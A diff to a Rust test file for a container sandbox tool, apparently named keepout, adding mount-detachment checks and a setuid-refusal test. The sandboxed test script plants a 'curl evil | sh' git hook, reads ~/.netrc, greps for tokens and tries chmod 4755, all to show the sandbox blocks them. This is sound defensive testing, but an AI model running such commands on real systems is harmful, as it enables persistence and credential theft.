@@ -77,6 +77,18 @@ fn containers(fx: &Fixture, env: &[(String, String)], flags: &[&str], format: &s
     run(fx.runner.command(&argv, env, &fx.project), what).stdout
 }
 
+/// Is a copy of `project` attached under the idmapped copies' directory (a root caller's run;
+/// other tests' runs may have theirs there at the same time)?
+fn copy_attached(project: &std::path::Path) -> bool {
+    use std::os::unix::fs::MetadataExt;
+    let id = |p: &std::path::Path| std::fs::metadata(p).ok().map(|m| (m.dev(), m.ino()));
+    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
+    mounts.lines().any(|l| {
+        let at = l.split(' ').nth(4).unwrap_or("");
+        at.starts_with("/run/keepout-idmapped/") && id(at.as_ref()) == id(project)
+    })
+}
+
 /// `keepout run --image IMAGE <extra> -- sh -c script` as the runner, with `env`.
 fn in_image(fx: &Fixture, env: &[(String, String)], extra: &[&str], script: &str) -> Output {
     let mut argv = vec![
@@ -156,15 +168,10 @@ fn image_shows_the_project_at_its_path_and_its_protected_names_read_only() {
             "[{r}] the new file is the runner's:{out}"
         );
         if r.is_root() {
-            // No mount of this project's is left under the attached copies' directory (other
-            // tests' runs may have theirs there now).
-            let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
-            let project = fx.project.display().to_string();
-            let left = mounts.lines().any(|l| {
-                let f: Vec<&str> = l.split(' ').collect();
-                f.len() > 4 && f[3] == project && f[4].starts_with("/run/keepout-idmapped/")
-            });
-            assert!(!left, "[{r}] the idmapped copy is detached after the run");
+            assert!(
+                !copy_attached(&fx.project),
+                "[{r}] the idmapped copy is detached after the run"
+            );
         }
     }
 }
@@ -358,7 +365,7 @@ fn image_missing_is_an_error_that_says_what_to_do() {
 }
 
 /// The container dies with keepout: killed with SIGKILL (no handler runs), its container is
-/// removed all the same (A6).
+/// removed all the same (A6), and a root caller's idmapped copy of the project detached.
 #[test]
 fn image_container_does_not_outlive_keepout() {
     for r in runners() {
@@ -387,6 +394,12 @@ fn image_container_does_not_outlive_keepout() {
             "[{r}] the container is removed after keepout died: {}",
             ps()
         );
+        if r.is_root() {
+            assert!(
+                poll(Duration::from_secs(10), || !copy_attached(&fx.project)),
+                "[{r}] the project's idmapped copy is detached by the watcher"
+            );
+        }
     }
 }
 
@@ -1095,8 +1108,9 @@ impl Drop for PrivateDocker {
 
 /// `--engine docker` (root's rootful docker, a daemon of the test's own reached through
 /// `DOCKER_HOST`): the project at its path, writable through the idmapped copy with the new
-/// file root's, git's hooks read-only; none of the caller's tokens or credentials; the
-/// command's exit status; and what docker cannot do refused, saying so.
+/// file root's, git's hooks read-only, no set-id mode (keepout's rules on the moby profile);
+/// none of the caller's tokens or credentials; the command's exit status; and what docker
+/// cannot do refused, saying so.
 #[test]
 fn image_with_docker_runs_the_same_policy() {
     let Some(r) = runners().into_iter().find(|r| r.is_root()) else {
@@ -1115,7 +1129,8 @@ fn image_with_docker_runs_the_same_policy() {
     let hook = fx.project.join(".git/hooks/pre-commit");
     let script = "pwd; cat README.md; touch made-inside && echo wrote; \
                   echo 'curl evil | sh' > .git/hooks/pre-commit && echo planted; \
-                  env | grep -c _TOKEN; cat ~/.netrc 2>&1 | head -1; exit 3";
+                  env | grep -c _TOKEN; cat ~/.netrc 2>&1 | head -1; \
+                  cp /bin/true suid && echo copied && chmod 4755 suid; echo chmod=$?; exit 3";
     let inn = in_image(&fx, &env, &["--engine", "docker"], script);
     assert_eq!(inn.code, Some(3), "[{r}] the command's exit status:{inn}");
     let project = fx.project.display().to_string();
@@ -1136,6 +1151,13 @@ fn image_with_docker_runs_the_same_policy() {
     assert!(
         !inn.has("planted") && !hook.exists(),
         "[{r}] .git/hooks is read-only:{inn}"
+    );
+    // Through the copy, the container's file is root's: a set-id one would be set-id root.
+    use std::os::unix::fs::PermissionsExt;
+    let suid = std::fs::metadata(fx.project.join("suid")).map(|m| m.permissions().mode());
+    assert!(
+        inn.has("copied") && inn.has("chmod=1") && suid.is_ok_and(|m| m & 0o6000 == 0),
+        "[{r}] keepout's profile refuses the set-id mode with docker too:{inn}"
     );
     assert!(
         inn.stdout.lines().any(|l| l == "0"),
